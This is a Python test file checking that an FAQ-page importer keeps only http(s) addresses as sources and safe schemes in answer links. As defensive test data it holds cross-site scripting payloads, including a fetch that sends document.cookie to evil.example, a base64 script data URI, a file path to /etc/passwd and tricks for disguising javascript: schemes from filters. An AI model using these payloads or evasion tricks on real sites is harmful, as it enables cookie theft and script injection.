"""A saved FAQ page's own URL becomes each FAQ's `source`, which /match returns and clients show as a link: only
an http(s) address is kept, whatever a hostile page writes as its canonical link or og:url (scripts, data, files,
disguised with case, tabs, line breaks, control characters or character references). Links inside answers
lead only to http(s), mailto, tel or relative addresses."""
from __future__ import annotations

import html
import json
import re
from urllib.parse import urlsplit

from hypothesis import given, settings, strategies as st

from kb.formats import read_any
from kb.formats.faqpage import web_url

HOSTILE_SCHEMES = ["javascript", "vbscript", "data", "file", "ftp", "about", "blob", "jar", "chrome", "view-source",
                   "intent", "ms-settings", "x-javascript"]
PAYLOADS = ["alert(document.cookie)", "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//evil.example/x",
            "/etc/passwd", "fetch('//evil.example/'+document.cookie)"]


@st.composite
def disguised(draw, scheme: str) -> str:
    """`scheme:payload` as a hostile page may write it: odd case, tabs and line breaks inside, controls and
    spaces around (all of which a browser ignores)."""
    letters = [c.upper() if draw(st.booleans()) else c for c in scheme]
    noise = st.sampled_from(["", "", "\t", "\n", "\r"])
    body = "".join(c + draw(noise) for c in letters)
    lead = draw(st.text(st.sampled_from([" ", "\x01", "\x1f", "\t"]), max_size=3))
    return lead + body + ":" + draw(st.sampled_from(PAYLOADS))


hostile_urls = st.sampled_from(HOSTILE_SCHEMES).flatmap(disguised)
web_urls = st.builds(lambda scheme, host, path: f"{scheme}://{host}.example/{path}",
                     st.sampled_from(["http", "https", "HTTPS"]), st.from_regex(r"[a-z][a-z0-9-]{0,12}", fullmatch=True),
                     st.from_regex(r"[a-z0-9/_-]{0,20}", fullmatch=True))


def _attr(value: str, refs: bool) -> str:
    """`value` as an HTML attribute value, some characters as numeric references when `refs`."""
    if not refs:
        return html.escape(value, quote=True)
    return "".join(f"&#{ord(c)};" if c.isalpha() and i % 2 else html.escape(c, quote=True)
                   for i, c in enumerate(value))


def _page(path, canonical: str | None, og_url: str | None, href: str, refs: bool) -> None:
    head = ""
    if canonical is not None:
        head += f'<link rel="canonical" href="{_attr(canonical, refs)}">\n'
    if og_url is not None:
        head += f'<meta property="og:url" content="{_attr(og_url, refs)}">\n'
    answer = f'Read <a href="{_attr(href, refs)}">link</a>'
    doc = {"@context": "https://schema.org", "@type": "FAQPage", "mainEntity": [
        {"@type": "Question", "name": "Do you deliver?", "acceptedAnswer": {"@type": "Answer", "text": answer}}]}
    micro = (f'<div itemscope itemtype="https://schema.org/FAQPage"><div itemprop="mainEntity" itemscope '
             f'itemtype="https://schema.org/Question"><h3 itemprop="name">Can I return it?</h3><div '
             f'itemprop="acceptedAnswer" itemscope itemtype="https://schema.org/Answer"><p itemprop="text">{answer}'
             f'</p></div></div></div>')
    path.write_text(f'<html><head>{head}<script type="application/ld+json">{json.dumps(doc)}</script></head>'
                    f"<body>{micro}</body></html>", encoding="utf-8")


def _link_target(answer: str) -> str | None:
    m = re.fullmatch(r"Read link(?: \((.*)\))?", answer, re.S)
    assert m is not None, answer
    return m.group(1)


@settings(max_examples=200, deadline=None)
@given(canonical=st.none() | hostile_urls | web_urls, og_url=st.none() | hostile_urls | web_urls,
       href=hostile_urls | web_urls | st.sampled_from(["/help", "mailto:help@shop.example", "tel:+441234"]),
       refs=st.booleans())
def test_only_web_addresses_become_sources_or_answer_links(tmp_path_factory, canonical, og_url, href, refs):
    path = tmp_path_factory.mktemp("page") / "faq.html"
    _page(path, canonical, og_url, href, refs)
    imported = read_any(path)
    assert len(imported.records) == 2
    expected = next((u.strip() for u in (canonical, og_url) if u is not None and web_url(u)), None)
    for record in imported.records:
        # the canonical link is resolved against og:url, which writes its scheme in lower case
        assert (record.source or "").lower() == (expected or "").lower(), (canonical, og_url, record.source)
        if record.source is not None:
            parts = urlsplit(record.source)
            assert parts.scheme.lower() in ("http", "https") and parts.hostname
        target = _link_target(record.answer)
        if target is not None:
            scheme = urlsplit(target).scheme.lower()
            assert scheme in ("http", "https", "mailto", "tel") or (scheme == "" and target.startswith("/")), target
    refused = [u for u in (canonical, og_url) if u is not None and not web_url(u)]
    if refused and (canonical is None or not web_url(canonical)):
        assert any("is not an http(s) address" in note for note in imported.notes), imported.notes


def test_a_script_canonical_link_is_dropped_with_a_note(tmp_path):
    path = tmp_path / "faq.html"
    _page(path, "javascript:alert(document.cookie)", None, "/help", refs=False)
    imported = read_any(path)
    assert {r.source for r in imported.records} == {None}
    assert "the page's URL 'javascript:alert(document.cookie)' is not an http(s) address: the FAQs have no source" \
        in imported.notes
    assert {r.answer for r in imported.records} == {"Read link (/help)"}
    # og:url stands in when it is a web address, and relative links resolve against it
    _page(path, "java\tscript:alert(1)", "https://shop.example/faq", "/help", refs=True)
    imported = read_any(path)
    assert {r.source for r in imported.records} == {"https://shop.example/faq"}
    assert {r.answer for r in imported.records} == {"Read link (https://shop.example/help)"}
    assert imported.notes[0] == ("the page's URL 'java\\tscript:alert(1)' is not an http(s) address: the FAQs' "
                                 "source is https://shop.example/faq")


def test_web_url():
    assert web_url("https://shop.example/faq") == "https://shop.example/faq"
    assert web_url("  HTTP://shop.example ") == "HTTP://shop.example"
    for url in [None, "", "/faq", "//shop.example/faq", "https:faq", "https://", "http://[::1", "javascript:x",
                " \x01java\nscript:x", "data:text/html,x", "file:///etc/passwd", "ftp://shop.example/"]:
        assert web_url(url) is None, url
